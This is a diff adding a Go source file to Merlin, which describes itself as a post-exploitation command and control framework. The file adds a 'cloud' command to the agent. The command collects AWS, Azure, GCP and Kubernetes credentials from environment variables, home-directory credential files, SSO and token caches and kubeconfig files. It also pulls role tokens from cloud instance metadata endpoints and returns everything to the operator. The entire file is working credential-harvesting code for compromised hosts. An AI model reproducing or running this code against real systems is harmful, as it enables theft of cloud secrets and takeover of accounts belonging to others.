@@ -0,0 +1,339 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// metadataTimeout is how long to wait for an instance metadata service, they only respond on cloud VMs
+const metadataTimeout = 2 * time.Second
+
+// cloudEnvironment are the environment variables that hold cloud credentials
+var cloudEnvironment = []string{
+	"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE", "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
+	"AZURE_CLIENT_ID", "AZURE_CLIENT_SECRET", "AZURE_TENANT_ID", "AZURE_FEDERATED_TOKEN_FILE", "IDENTITY_ENDPOINT", "IDENTITY_HEADER",
+	"GOOGLE_APPLICATION_CREDENTIALS", "CLOUDSDK_AUTH_ACCESS_TOKEN", "KUBECONFIG",
+}
+
+// kubeconfigKeys are the kubeconfig keys that hold credentials or identify the cluster
+var kubeconfigKeys = []string{"server", "token", "client-certificate-data", "client-key-data", "username", "password", "command", "current-context"}
+
+// Cloud collects cloud CLI credentials and tokens and queries instance metadata services for role credentials
+// cloud [files|imds]
+func Cloud(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Cloud() with %+v", cmd))
+	}
+	var findings []FindingRecord
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	scope := ""
+	if len(cmd.Args) > 0 {
+		scope = strings.ToLower(cmd.Args[0])
+	}
+	if scope != "" && scope != "files" && scope != "imds" {
+		results.Stderr = fmt.Sprintf("unknown cloud command: %s", cmd.Args[0])
+		return
+	}
+
+	if scope != "imds" {
+		for _, name := range cloudEnvironment {
+			if value := os.Getenv(name); value != "" {
+				add("environment", name, value)
+			}
+		}
+		for _, home := range homeDirectories() {
+			for _, f := range cloudFiles(home) {
+				add(f.Category, f.Name, f.Value)
+			}
+		}
+		if kubeconfig := os.Getenv("KUBECONFIG"); kubeconfig != "" {
+			for _, path := range filepath.SplitList(kubeconfig) {
+				for _, f := range kubeconfigCredentials(path) {
+					add(f.Category, f.Name, f.Value)
+				}
+			}
+		}
+	}
+
+	if scope != "files" {
+		for _, f := range metadataCredentials() {
+			add(f.Category, f.Name, f.Value)
+		}
+	}
+
+	if len(findings) == 0 {
+		results.Stdout = "no cloud credentials were found"
+	} else {
+		results.Stdout = findingsText(findings)
+	}
+	structured = newStructured("cloud", findings)
+	return
+}
+
+// cloudFiles returns the AWS, Azure, GCP, and Kubernetes credentials found in a home directory
+func cloudFiles(home string) (findings []FindingRecord) {
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+
+	// AWS
+	for _, file := range []string{"credentials", "config"} {
+		path := filepath.Join(home, ".aws", file)
+		for _, entry := range iniCredentials(path) {
+			add("aws", path, entry)
+		}
+	}
+	sso, _ := filepath.Glob(filepath.Join(home, ".aws", "sso", "cache", "*.json"))
+	for _, path := range sso {
+		var cache struct {
+			AccessToken string `json:"accessToken"`
+			ExpiresAt   string `json:"expiresAt"`
+			StartURL    string `json:"startUrl"`
+		}
+		if readJSON(path, &cache) == nil && cache.AccessToken != "" {
+			add("aws", path, fmt.Sprintf("sso %s expires %s token %s", cache.StartURL, cache.ExpiresAt, cache.AccessToken))
+		}
+	}
+
+	// Azure
+	azure := filepath.Join(home, ".azure")
+	for _, file := range []string{"msal_token_cache.json", "accessTokens.json", "service_principal_entries.json"} {
+		path := filepath.Join(azure, file)
+		if data, err := os.ReadFile(path); err == nil { // #nosec G304
+			add("azure", path, strings.TrimSpace(string(data)))
+		}
+	}
+	// The Windows token cache is encrypted with DPAPI for the user
+	for _, file := range []string{"msal_token_cache.bin", "service_principal_entries.bin"} {
+		path := filepath.Join(azure, file)
+		if _, err := os.Stat(path); err == nil {
+			add("azure", path, "DPAPI encrypted token cache, decrypt in the user's context")
+		}
+	}
+	var profile struct {
+		Subscriptions []struct {
+			ID   string `json:"id"`
+			Name string `json:"name"`
+			User struct {
+				Name string `json:"name"`
+			} `json:"user"`
+		} `json:"subscriptions"`
+	}
+	if readJSON(filepath.Join(azure, "azureProfile.json"), &profile) == nil {
+		for _, s := range profile.Subscriptions {
+			add("azure", "Subscription", fmt.Sprintf("%s %s (%s)", s.ID, s.Name, s.User.Name))
+		}
+	}
+
+	// GCP
+	gcloud := filepath.Join(home, ".config", "gcloud")
+	if runtime.GOOS == "windows" {
+		gcloud = filepath.Join(home, "AppData", "Roaming", "gcloud")
+	}
+	adc := filepath.Join(gcloud, "application_default_credentials.json")
+	if data, err := os.ReadFile(adc); err == nil { // #nosec G304
+		add("gcp", adc, strings.TrimSpace(string(data)))
+	}
+	legacy, _ := filepath.Glob(filepath.Join(gcloud, "legacy_credentials", "*", "adc.json"))
+	for _, path := range legacy {
+		if data, err := os.ReadFile(path); err == nil { // #nosec G304
+			add("gcp", path, strings.TrimSpace(string(data)))
+		}
+	}
+	for _, file := range []string{"credentials.db", "access_tokens.db"} {
+		path := filepath.Join(gcloud, file)
+		if _, err := os.Stat(path); err == nil {
+			add("gcp", path, "SQLite credential store, download to extract tokens")
+		}
+	}
+
+	// Kubernetes
+	findings = append(findings, kubeconfigCredentials(filepath.Join(home, ".kube", "config"))...)
+	return
+}
+
+// iniCredentials returns the credential entries from an AWS credentials or config file prefixed with their profile
+func iniCredentials(path string) (entries []string) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	var profile string
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if strings.HasPrefix(line, "[") && strings.HasSuffix(line, "]") {
+			profile = strings.Trim(line, "[]")
+			continue
+		}
+		key, value, found := strings.Cut(line, "=")
+		if !found || strings.HasPrefix(line, "#") || strings.HasPrefix(line, ";") {
+			continue
+		}
+		key = strings.TrimSpace(key)
+		if strings.Contains(key, "key") || strings.Contains(key, "token") || strings.HasPrefix(key, "sso_") ||
+			key == "role_arn" || key == "source_profile" || key == "credential_process" || key == "region" {
+			entries = append(entries, fmt.Sprintf("[%s] %s = %s", profile, key, strings.TrimSpace(value)))
+		}
+	}
+	return
+}
+
+// kubeconfigCredentials returns the cluster servers and user credentials from a kubeconfig file
+func kubeconfigCredentials(path string) (findings []FindingRecord) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	scanner := bufio.NewScanner(f)
+	scanner.Buffer(make([]byte, 64*1024), 1024*1024)
+	for scanner.Scan() {
+		key, value, found := strings.Cut(strings.TrimSpace(scanner.Text()), ":")
+		if !found {
+			continue
+		}
+		key = strings.TrimPrefix(key, "- ")
+		for _, k := range kubeconfigKeys {
+			if key == k {
+				findings = append(findings, FindingRecord{Category: "kubernetes", Name: path, Value: fmt.Sprintf("%s: %s", key, strings.TrimSpace(value))})
+			}
+		}
+	}
+	return
+}
+
+// readJSON decodes a JSON file into v
+func readJSON(path string, v interface{}) error {
+	data, err := os.ReadFile(path) // #nosec G304
+	if err != nil {
+		return err
+	}
+	return json.Unmarshal(data, v)
+}
+
+// metadataCredentials queries the AWS, Azure, and GCP instance metadata services for role credentials
+func metadataCredentials() (findings []FindingRecord) {
+	add := func(category, name, value string) {
+		findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+	}
+	// The metadata services are link-local and must not go through a proxy
+	client := &http.Client{
+		Timeout:   metadataTimeout,
+		Transport: &http.Transport{Proxy: nil},
+	}
+
+	// AWS IMDSv2 requires a session token, fall back to IMDSv1 if the token request fails
+	headers := map[string]string{}
+	token, err := metadataRequest(client, http.MethodPut, "http://169.254.169.254/latest/api/token", map[string]string{"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
+	if err == nil {
+		headers["X-aws-ec2-metadata-token"] = token
+		add("aws-imds", "Version", "IMDSv2")
+	}
+	roles, err := metadataRequest(client, http.MethodGet, "http://169.254.169.254/latest/meta-data/iam/security-credentials/", headers)
+	if err == nil {
+		if token == "" {
+			add("aws-imds", "Version", "IMDSv1")
+		}
+		for _, role := range strings.Fields(roles) {
+			creds, err := metadataRequest(client, http.MethodGet, "http://169.254.169.254/latest/meta-data/iam/security-credentials/"+role, headers)
+			if err != nil {
+				add("aws-imds", role, err.Error())
+				continue
+			}
+			add("aws-imds", role, creds)
+		}
+	}
+	// ECS task role
+	if uri := os.Getenv("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"); uri != "" {
+		creds, err := metadataRequest(client, http.MethodGet, "http://169.254.170.2"+uri, nil)
+		if err == nil {
+			add("aws-ecs", uri, creds)
+		}
+	}
+
+	// Azure managed identity
+	for _, resource := range []string{"https://management.azure.com/", "https://graph.microsoft.com/", "https://vault.azure.net"} {
+		creds, err := metadataRequest(client, http.MethodGet, "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource="+resource, map[string]string{"Metadata": "true"})
+		if err != nil {
+			break
+		}
+		add("azure-imds", resource, creds)
+	}
+
+	// GCP service account
+	google := map[string]string{"Metadata-Flavor": "Google"}
+	email, err := metadataRequest(client, http.MethodGet, "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email", google)
+	if err == nil {
+		add("gcp-imds", "Service Account", email)
+		if scopes, err := metadataRequest(client, http.MethodGet, "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/scopes", google); err == nil {
+			add("gcp-imds", "Scopes", strings.Join(strings.Fields(scopes), ", "))
+		}
+		if creds, err := metadataRequest(client, http.MethodGet, "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", google); err == nil {
+			add("gcp-imds", "Token", creds)
+		}
+	}
+	return
+}
+
+// metadataRequest sends a request to an instance metadata service and returns the body if the status is 200
+func metadataRequest(client *http.Client, method, url string, headers map[string]string) (string, error) {
+	req, err := http.NewRequest(method, url, nil)
+	if err != nil {
+		return "", err
+	}
+	for k, v := range headers {
+		req.Header.Set(k, v)
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1024*1024))
+	if err != nil {
+		return "", err
+	}
+	if resp.StatusCode != http.StatusOK {
+		return "", fmt.Errorf("HTTP %d", resp.StatusCode)
+	}
+	return strings.TrimSpace(string(body)), nil
+}